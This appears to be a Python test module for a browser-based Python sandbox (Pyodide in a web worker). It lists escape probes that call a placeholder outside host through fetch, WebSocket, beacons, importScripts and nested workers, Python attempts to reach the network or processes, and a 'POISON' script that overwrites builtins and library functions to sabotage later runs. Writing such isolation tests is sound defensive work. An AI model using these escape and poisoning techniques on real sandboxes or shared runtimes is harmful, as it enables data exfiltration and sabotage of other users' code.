"""Ways out of the cage that Python runs in: what a hostile worker would try, and what hostile Python would.

Each says "reached" where it got somewhere. ELSEWHERE stands for another host, SITE for the site.
"""

import json

#: In a worker of the cage, as if Python had opened it for its reader.
IN_THE_WORKER = {
    "fetch": "await fetch('ELSEWHERE/fetch'); return 'reached'",
    "fetch without an answer": "await fetch('ELSEWHERE/blind', { mode: 'no-cors' }); return 'reached'",
    "fetch from the site": "await fetch('SITE', { mode: 'no-cors' }); return 'reached'",
    "XMLHttpRequest": "return until((done, fail) => { const x = new XMLHttpRequest(); x.onload = done;"
    " x.onerror = fail; x.open('GET', 'ELSEWHERE/xhr'); x.send(); })",
    "WebSocket": "return until((done, fail) => { const s = new WebSocket('ELSEWHERE/ws'.replace('http', 'ws'));"
    " s.onopen = done; s.onerror = fail; })",
    "EventSource": "return until((done, fail) => { const s = new EventSource('ELSEWHERE/events'); s.onopen = done;"
    " s.onerror = fail; })",
    "WebTransport": "await new WebTransport('ELSEWHERE/quic'.replace('http:', 'https:')).ready; return 'reached'",
    "sendBeacon": "return navigator.sendBeacon('ELSEWHERE/beacon') && 'reached'",
    "RTCPeerConnection": "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }); return 'reached'",
    "FontFace": "await new FontFace('x', 'url(ELSEWHERE/font)').load(); return 'reached'",
    "importScripts": "importScripts('ELSEWHERE/script.js'); return 'reached'",
    "import": "await import('ELSEWHERE/module.js'); return 'reached'",
    "import from the site": "await import('SITE_static/pathlib-edu/site.js'); return 'reached'",
    "import of data": "await import('data:text/javascript,0'); return 'reached'",
    "eval": "return eval('\"reached\"')",
    "Function": "return new Function('return \"reached\"')()",
    "a worker from elsewhere": "return until((done, fail) => { const w = new Worker('ELSEWHERE/worker.js');"
    " w.onmessage = done; w.onerror = fail; })",
    "SharedWorker": "new SharedWorker(URL.createObjectURL(new Blob(['']))); return 'reached'",
    "navigator.serviceWorker": "await navigator.serviceWorker.register('SITEsw.js'); return 'reached'",
    "caches": "await caches.open('pathlib-edu'); return 'reached'",
    "indexedDB": "return until((done, fail) => { const o = indexedDB.open('x'); o.onsuccess = done;"
    " o.onerror = fail; })",
    "localStorage": "localStorage.setItem('x', 'y'); return 'reached'",
    "cookies": "await cookieStore.set('x', 'y'); return 'reached'",
    "cookies of a document": "document.cookie = 'x=y'; return 'reached'",
    "files of the origin": "await navigator.storage.getDirectory(); return 'reached'",
    "locks": "return await navigator.locks.request('x', () => 'reached')",
    "opener": "opener.location = 'ELSEWHERE/opener'; return 'reached'",
    "top": "top.location = 'ELSEWHERE/top'; return 'reached'",
    "parent": "parent.postMessage({ figure: 'x' }, '*'); return 'reached'",
    "a window": "open('ELSEWHERE/window'); return 'reached'",
    "Notification": "return Notification.permission === 'granted' && 'reached'",
    "BroadcastChannel": "new BroadcastChannel('heard').postMessage('x')",  # the page listens
    "its frame": "postMessage({ figure: 'innocent', answer: '{}' }); postMessage(new ArrayBuffer(8))",
    # The last: on a busy machine Firefox stands still now and then where a worker opens one of its own, for ever.
    "a worker of its own": "return until((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('ELSEWHERE/nested').then(() => postMessage(1), () => setTimeout(() => { throw 1 }))\"])));"
    " w.onmessage = done; w.onerror = fail; })",
}

#: Put in the place of the worker's script: it tries one after the other, and tells what came of each, and what is left.
PROBE = """
const until = (begin) => new Promise((resolve, reject) => {
  begin(() => resolve("reached"), () => reject(new Error("refused")));
});
const patience = () => new Promise((_, reject) => setTimeout(reject, 3000, new Error("nothing came of it")));
const ways = {WAYS};
self.onmessage = async ({ ports: [page] }) => {
  const left = Object.keys(ways);
  while (left.length) {
    const name = left.shift();
    try {
      page.postMessage({ tried: name, came: String(await Promise.race([ways[name](), patience()])), left });
    } catch (error) {
      page.postMessage({ tried: name, came: `${error?.name}: ${error?.message}`, left });
    }
  }
};
"""

#: What hostile Python tries. Each line of what it prints is a way, and what came of it.
IN_PYTHON = {
    "js": "import js; js.fetch",
    "pyodide_js": "import pyodide_js; pyodide_js.loadPackage",
    "run_js": "from pyodide.code import run_js; run_js('fetch(\"ELSEWHERE/run_js\")')",
    "pyfetch": "from pyodide.http import pyfetch; pyfetch('ELSEWHERE/pyfetch').send(None)",
    "open_url": "from pyodide.http import open_url; open_url('ELSEWHERE/open_url')",
    "micropip": "import micropip; micropip.install('numpy')",
    "urlopen": "from urllib.request import urlopen; urlopen('ELSEWHERE/urlopen', timeout=1)",
    "socket": "import socket; socket.create_connection(('127.0.0.1', 9), timeout=1).send(b'x')",
    "threads": "from threading import Thread; Thread(target=print).start()",
    "processes": "import subprocess; subprocess.run(['true'])",
    "objects that are left": "import gc; from pyodide.ffi import JsProxy\n"
    "        left = [one for one in gc.get_objects() if isinstance(one, JsProxy)]\n"
    "        [one.constructor.constructor('return self')().fetch for one in left][0]",
}

#: What a text leaves behind for those after it.
POISON = """
import asyncio, builtins, gc, heapq, linecache, sys
import pathlib_edu.core as core, pathlib_edu.service.readers_code as readers_code
def wrong(*_, **__): raise ZeroDivisionError("poisoned")
def later():
    core.Frontier.push = wrong
core.Frontier.pop = core.path_to = core.heappop = heapq.heappop = wrong
builtins.sorted = builtins.min = wrong
sys.modules["collections"] = sys.modules["random"] = None
linecache.getlines = readers_code.made_by = wrong
sys.setrecursionlimit(60)
sys.path.insert(0, "/persisted")
with open("persisted", "w") as file: file.write("x")
try: asyncio.get_event_loop().call_later(0.01, later)
except Exception: pass
sys.settrace(lambda *_: None)
"""


def probe(elsewhere: str, site: str) -> str:
    """The script of a worker that tries all ways out."""
    ways = ", ".join(f"{json.dumps(name)}: async () => {{ {code} }}" for name, code in IN_THE_WORKER.items())
    return PROBE.replace("{WAYS}", f"{{ {ways} }}").replace("ELSEWHERE", elsewhere).replace("SITE", site)


def hostile(elsewhere: str) -> str:
    """A search that tries all of Python's ways out, and prints what came of each. It tells something after each: who is
    silent for five seconds is taken to be endless, and on a busy machine all of them together have taken longer."""
    lines = ["def mine(problem):", "    yield 'reach', problem.start, None, 0, 0"]
    for name, code in IN_PYTHON.items():
        lines += ["    try:", f"        {code}", f"        print({name!r}, 'reached', sep=': ')"]
        lines += ["    except BaseException as error:", f"        print({name!r}, type(error).__name__, sep=': ')"]
        lines += ["    yield 'expand', problem.start, 0"]
    return "\n".join([*lines, ""]).replace("ELSEWHERE", elsewhere)
